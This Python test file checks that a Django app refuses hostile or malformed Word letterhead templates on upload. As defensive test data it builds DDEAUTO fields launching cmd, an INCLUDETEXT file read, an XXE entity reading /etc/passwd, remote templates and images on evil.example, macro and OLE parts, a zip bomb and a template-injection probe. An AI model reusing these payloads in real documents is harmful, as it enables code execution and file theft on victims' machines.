"""公文模板: what of a template is refused, and how it is tried."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.db import connection
from docx.oxml.ns import nsdecls

from meetings.minutes.documents import UnreadableDocumentError, UnreadableReason
from meetings.models import ChangeLog, Letterhead, Paper, Role
from meetings.reports import letterhead_trial
from tests import factories

from .letterheads import changed, office_template, upload


@pytest.fixture
def administrator(db, client):
    factories.small_world()
    client.force_login(factories.account(Role.ADMINISTRATOR))
    return client


FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
RELATION = '<Relationship Id="rId99" Type="http://x/relationships/{}" Target="{}" {}/></Relationships>'
RELATIONS = ("word/_rels/document.xml.rels", "</Relationships>")


def evil_field(code: str) -> bytes:
    return changed("word/document.xml", "<w:sectPr", f"<w:p>{FIELD.format(code)}</w:p><w:sectPr")


def bomb() -> bytes:
    content = io.BytesIO(office_template())
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/image1.png", b"\0" * (70 * 1024 * 1024))
    return content.getvalue()


def as_a_picture() -> bytes:
    """A header that says it is a picture by its name, and starts a program."""
    content = io.BytesIO(
        changed("[Content_Types].xml", "<Default", '<Override PartName="/word/a.png" ContentType="x"/><Default')
    )
    with zipfile.ZipFile(content, "a") as package:
        package.writestr("word/a.png", '<hdr><fldSimple instr="DDEAUTO c:\\\\x"/></hdr>')
    return content.getvalue()


def twice() -> bytes:
    content = io.BytesIO(office_template())
    with zipfile.ZipFile(content, "a") as package:
        package.writestr("WORD/document.xml", "<a/>")
    return content.getvalue()


def with_footnote() -> bytes:
    """A template whose footnote has a place, which no writer of papers comes to."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    content = changed(*RELATIONS, RELATION.format("footnotes", "footnotes.xml", ""))
    content = changed(
        "[Content_Types].xml",
        "<Default",
        f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/><Default',
        content,
    )
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a") as package:
        words = "<w:footnote><w:p><w:r><w:t>{{日期}}</w:t></w:r></w:p></w:footnote>"
        package.writestr("word/footnotes.xml", f"<w:footnotes {nsdecls('w')}>{words}</w:footnotes>")
    return file.getvalue()


def with_building_blocks(code: str = "PAGE") -> bytes:
    """A template with the part in which Word puts the prompts of content controls."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"
    content = changed(*RELATIONS, RELATION.format("glossaryDocument", "glossary/document.xml", ""))
    override = f'<Override PartName="/word/glossary/document.xml" ContentType="{kind}"/><Default'
    file = io.BytesIO(changed("[Content_Types].xml", "<Default", override, content))
    with zipfile.ZipFile(file, "a") as package:
        field = f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'
        package.writestr(
            "word/glossary/document.xml", f"<w:glossaryDocument {nsdecls('w')}>{field}</w:glossaryDocument>"
        )
    return file.getvalue()


@pytest.mark.long
@pytest.mark.same_on_both
def test_building_blocks_of_word_are_taken(administrator):
    upload(administrator, with_building_blocks())
    assert Letterhead.objects.exists()


REFUSED = {
    "no document": (lambda: b"hello", "不是 Word 文档"),
    "a workbook": (lambda: changed("[Content_Types].xml", "x", "x", factories_workbook()), "不是 Word 文档"),
    "an unknown place": (lambda: office_template("{{标题}}", "{{正文}}", "{{文号}}"), "“{{文号}}”"),
    "code": (lambda: office_template("{{正文}}", "{{ ''.__class__.__mro__ }}"), "无法识别占位符"),
    "an open brace": (lambda: office_template("{{正文}}", "{{标题}"), "“{{标题}”"),
    "a statement": (lambda: office_template("{{正文}}", "{% for x in y %}{{"), "无法识别占位符"),
    "an unknown place in wide braces": (lambda: office_template("{{正文}}", "｛｛文号｝｝"), "“｛｛文号｝｝”"),
    "an open wide brace": (lambda: office_template("{{正文}}", "｛｛标题｝"), "“｛｛标题｝”"),
    "a place in a footnote": (with_footnote, "“{{日期}}”不能放在脚注或尾注中"),
    "no body": (lambda: office_template("{{标题}}"), "“{{正文}}”须出现且只出现一次"),
    "two bodies": (lambda: office_template("{{正文}}", "{{正文}}"), "“{{正文}}”须出现且只出现一次"),
    "a body among words": (lambda: office_template("正文：{{正文}}"), "单独成段"),
    "a colour in a report": (lambda: office_template("{{正文}}", "{{颜色}}"), "“{{颜色}}”"),
    "the body in a header": (
        lambda: office_template(
            change=lambda document: setattr(document.sections[0].header.paragraphs[0], "text", "{{结语}}")
        ),
        "不能放在页眉或页脚中",
    ),
    "a macro": (lambda: changed(*RELATIONS, RELATION.format("vbaProject", "vbaProject.bin", "")), "“vbaProject”"),
    "an object": (lambda: changed(*RELATIONS, RELATION.format("oleObject", "a.bin", "")), "“oleObject”"),
    "a page inside": (lambda: changed(*RELATIONS, RELATION.format("aFChunk", "a.html", "")), "“aFChunk”"),
    "a link": (
        lambda: changed(*RELATIONS, RELATION.format("image", "http://evil.example/x", 'TargetMode="External"')),
        "“http://evil.example/x”",
    ),
    "a picture of elsewhere": (
        lambda: changed(
            "word/document.xml", "<w:sectPr", '<w:p><w:r><x:imagedata xmlns:x="x" src="//evil/x"/></w:r></w:p><w:sectPr'
        ),
        "“//evil/x”",
    ),
    "a shape that leads away": (
        lambda: changed(
            "word/document.xml",
            "<w:sectPr",
            '<w:p><w:r><x:shape xmlns:x="x" x:href="file:c:/secret"/></w:r></w:p><w:sectPr',
        ),
        "“file:c:/secret”",
    ),
    "a query of a database": (
        lambda: changed(
            "word/settings.xml", "</w:settings>", '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>'
        ),
        "“mailMerge”",
    ),
    "a template on a server": (
        lambda: changed(
            *RELATIONS, RELATION.format("attachedTemplate", "https://evil.example/x.dotm", 'TargetMode="External"')
        ),
        "“https://evil.example/x.dotm”",
    ),
    "a program in a building block": (lambda: with_building_blocks("DDEAUTO"), "域“DDEAUTO”"),
    "a program": (lambda: evil_field(' DDEAUTO c:\\\\cmd "/c calc" '), "域“DDEAUTO”"),
    "a field of fields": (lambda: evil_field(""), "域“”"),
    "a file": (lambda: evil_field("INCLUDETEXT c:\\\\secret"), "域“INCLUDETEXT”"),
    "a program in a picture": (as_a_picture, "域“DDEAUTO”"),
    "an entity": (
        lambda: changed(
            "word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'
        ),
        "word/document.xml",
    ),
    "a bomb": (bomb, "word/media/image1.png"),
    "a part twice": (twice, "损坏"),
    "half a file": (lambda: office_template()[:5000], "损坏"),
    "another kind of Word file": (
        lambda: changed("[Content_Types].xml", "document.main+xml", "template.main+xml"),
        "无法作为模板填写",
    ),
    "too many elements": (
        lambda: changed("word/document.xml", "<w:sectPr", f"{'<w:p/>' * 50_001}<w:sectPr"),
        "模板过长",
    ),
    "too many places": (lambda: office_template("{{正文}}", "{{日期}}" * 100), "模板过长"),
    "blanks": (lambda: office_template("{{正文}}", "{{" + " " * 100_000), "无法识别占位符"),
    "too large": (lambda: b"PK\x03\x04" + b"\0" * (5 << 20), "不得超过5 MB"),
}


def factories_workbook() -> bytes:
    import openpyxl

    file = io.BytesIO()
    openpyxl.Workbook().save(file)
    return file.getvalue()


@pytest.mark.long
@pytest.mark.same_on_both
def test_what_is_refused_is_said_in_a_sentence_and_changes_nothing(administrator, subtests):
    uploader = factories.account(Role.ADMINISTRATOR)
    before = Letterhead.objects.create(paper=Paper.REPORT, file="x", original_name="好.docx", uploaded_by=uploader)
    for case, (make, words) in REFUSED.items():
        with subtests.test(case):
            answer = upload(administrator, make(), version=str(before.pk))
            assert answer.status_code == 422
            assert words in answer.content.decode().replace("&#x27;", "'")
            assert list(Letterhead.objects.values_list("pk", "original_name")) == [(before.pk, "好.docx")]
            assert not ChangeLog.objects.changes().filter(part="落实情况报告").exists()


def boxes_in_boxes() -> bytes:
    """Texts that hundreds of paragraphs are around, each of which might look through all of them."""
    around, texts = "<w:p><w:r><w:txbxContent>", "<w:t>字</w:t>" * 45_000
    nested = f"{around * 80}<w:p><w:r>{texts}</w:r></w:p>{'</w:txbxContent></w:r></w:p>' * 80}"
    return changed("word/document.xml", "<w:sectPr", f"{nested}<w:sectPr")


def test_a_template_is_tried_where_memory_and_time_are_bounded(administrator, monkeypatch):
    def read_for_long(function, content, options):
        assert (function, content) == ("meetings.reports.letterhead_trial:try_sample", b"whatever it is")
        assert options == {"paper": "report", "language": "zh-hans"}
        raise UnreadableDocumentError(UnreadableReason.TOO_SLOW, seconds=15)

    monkeypatch.setattr(letterhead_trial, "call_in_sandbox", read_for_long)
    answer = upload(administrator, b"whatever it is")
    assert answer.status_code == 422
    assert "15秒" in answer.content.decode()


@pytest.mark.same_on_both
def test_no_writer_waits_for_the_trial(administrator, monkeypatch):
    outermost, depths = len(connection.savepoint_ids), []
    monkeypatch.setattr(
        letterhead_trial,
        "call_in_sandbox",
        lambda *_sent: depths.append(len(connection.savepoint_ids)) or {"missing": []},
    )
    upload(administrator, office_template())
    assert depths == [outermost]
    assert Letterhead.objects.exists()


@pytest.mark.separate_process
@pytest.mark.long
@pytest.mark.same_on_both
def test_a_template_is_tried_in_a_process(administrator):
    upload(administrator, boxes_in_boxes())
    assert Letterhead.objects.get().paper == Paper.REPORT
